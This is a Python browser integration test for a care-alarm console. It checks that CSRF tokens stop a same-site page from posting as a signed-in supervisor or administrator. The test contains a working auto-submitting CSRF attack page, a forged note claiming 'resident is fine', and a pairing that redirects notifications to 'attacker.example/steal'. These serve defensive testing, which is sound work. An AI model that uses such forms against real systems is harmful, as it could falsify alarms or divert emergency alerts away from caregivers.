"""Cross-site request forgery from a same-site origin, in a real Chromium: a page on another port of the
same host (as Grafana or InfluxDB are in compose) makes a signed-in supervisor's and administrator's
browser post to the console. SameSite=Lax lets the cookie ride along; the CSRF token stops the request."""

from __future__ import annotations

import html
import re
import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import pytest
from sqlalchemy import select

from firmware_sim.installation import DEMO_PASSWORD
from server import alarms as desk
from server.db.models import AlarmAudit, Caregiver, Resident
from server.services import utc_now
from tests.integration.axe import assert_no_serious_violations as axe_clean
from tests.integration.browser import DESKTOP
from tests.integration.harness import provision, start_server

playwright_api = pytest.importorskip("playwright.sync_api")
expect = playwright_api.expect
pytestmark = [pytest.mark.integration, pytest.mark.browser]
WAIT_MS = 15_000


class Attacker:
    """A page on 127.0.0.1:<another port> that submits a hidden form to the console as soon as it loads."""

    def __init__(self) -> None:
        self.forms: dict[str, tuple[str, dict[str, str]]] = {}
        attacker = self

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                action, fields = attacker.forms[self.path]
                inputs = "".join(
                    f'<input type="hidden" name="{html.escape(k)}" value="{html.escape(v)}">' for k, v in fields.items()
                )
                body = (
                    f'<!doctype html><form id="f" method="post" action="{html.escape(action)}">{inputs}</form>'
                    '<script>document.getElementById("f").submit()</script>'
                ).encode()
                self.send_response(200)
                self.send_header("Content-Type", "text/html; charset=utf-8")
                self.end_headers()
                self.wfile.write(body)

            def log_message(self, *_args: object) -> None:
                return

        self.http = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        threading.Thread(target=self.http.serve_forever, daemon=True).start()

    def url(self, path: str) -> str:
        return f"http://127.0.0.1:{self.http.server_address[1]}{path}"


@pytest.fixture
def attacker() -> Iterator[Attacker]:
    a = Attacker()
    yield a
    a.http.shutdown()


def sign_in(browser, base: str, username: str):  # type: ignore[no-untyped-def]
    page = browser.new_context(viewport=DESKTOP, locale="zh-CN", bypass_csp=True).new_page()  # axe-core's script
    page.goto(f"{base}/console/login")
    axe_clean(page)
    page.get_by_label("用户名").fill(username)
    page.get_by_label("密码").fill(DEMO_PASSWORD)
    page.get_by_label("密码").press("Enter")
    expect(page.get_by_role("heading", name="未处理报警")).to_be_visible(timeout=WAIT_MS)
    return page


def test_a_same_site_page_cannot_post_as_a_signed_in_supervisor_or_admin(  # type: ignore[no-untyped-def]
    tmp_path, central_broker, attacker, browser
) -> None:
    server = start_server(tmp_path, central_broker.address)
    try:
        provision(server, 1, ["json://127.0.0.1:9/caregiver/{code}"])
        base = server.settings.base_url
        with server.services.sessions() as s, s.begin():
            rid = s.scalars(select(Resident.id)).one()
            alarm_id = desk.apply_gateway_alarm(
                s, "gw-r001", 1, rid, {"type": "sos", "severity": "emergency"}, utc_now(), utc_now()
            ).alarm.id
        attacker.forms["/note"] = (f"{base}/console/alarms/{alarm_id}/note", {"text": "FORGED: resident is fine"})
        attacker.forms["/pair"] = (
            f"{base}/console/admin/pairings",
            {"resident": "R001", "code": "C001", "name": "李伟", "notify_url": "json://attacker.example/steal"},
        )

        supervisor = sign_in(browser, base, "supervisor")
        response = supervisor.goto(attacker.url("/note"))
        supervisor.wait_for_url(re.compile(rf"{re.escape(base)}/console/alarms/{alarm_id}/note"), timeout=WAIT_MS)
        expect(supervisor.locator("body")).to_contain_text("CSRF", timeout=WAIT_MS)
        assert response is not None
        # the console's own form, in the same browser, still works: its page carries the token
        supervisor.goto(f"{base}/console/alarms/{alarm_id}")
        supervisor.get_by_label("备注").first.fill("已电话联系，邻居前往")
        supervisor.get_by_role("button", name="添加备注").click()
        expect(supervisor.get_by_text("已电话联系，邻居前往").first).to_be_visible(timeout=WAIT_MS)
        axe_clean(supervisor)

        admin = sign_in(browser, base, "admin")
        admin.goto(f"{base}/console/admin")
        axe_clean(admin)
        admin.goto(attacker.url("/pair"))
        admin.wait_for_url(re.compile(rf"{re.escape(base)}/console/admin/pairings"), timeout=WAIT_MS)
        expect(admin.locator("body")).to_contain_text("CSRF", timeout=WAIT_MS)

        with server.services.sessions() as s:
            notes = [
                a.detail.get("note", "")
                for a in s.scalars(
                    select(AlarmAudit).where(AlarmAudit.alarm_id == alarm_id, AlarmAudit.action == "note")
                )
            ]
            assert notes == ["已电话联系，邻居前往"], notes
            assert s.scalars(select(Caregiver).where(Caregiver.code == "C001")).one().notify_urls == [
                "json://127.0.0.1:9/caregiver/R001"
            ]
    finally:
        server.stop()
